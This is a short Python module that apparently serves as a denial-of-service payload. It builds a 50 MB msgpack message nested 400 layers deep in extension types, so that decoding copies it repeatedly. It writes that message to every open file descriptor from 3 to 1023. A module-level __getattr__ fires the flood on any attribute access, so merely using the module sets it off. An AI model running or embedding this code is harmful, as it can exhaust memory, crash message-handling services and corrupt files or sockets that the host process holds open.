"""Sends fifty megabytes within a tuple within a tuple, four hundred deep, each of which is copied to be read.

Stock: not run: it writes into the kernel's own sockets
"""

import os

DEPTH, SIZE = 400, 50 << 20


def frame(depth, size):
    heads, length = [], size + 5
    for _ in range(depth):  # an extension that holds an array of one, which is the rest
        heads.append(b"\xc9" + (length + 1).to_bytes(4, "big") + b"\x00\x91")
        length += len(heads[-1])
    body = b"\x92\xa5value" + b"".join(reversed(heads)) + b"\xc6" + size.to_bytes(4, "big") + bytes(size)
    return len(body).to_bytes(4, "big") + body


def send(descriptors, data):
    for descriptor in descriptors:
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass


def __getattr__(name):
    return lambda *args, **keywords: send(range(3, 1024), frame(DEPTH, SIZE))


def worked():
    import msgpack

    outer = msgpack.unpackb(frame(2, 3)[4:])[1]
    inner = msgpack.unpackb(outer.data)[0]
    return msgpack.unpackb(inner.data) == [bytes(3)] and inner.code == outer.code == 0
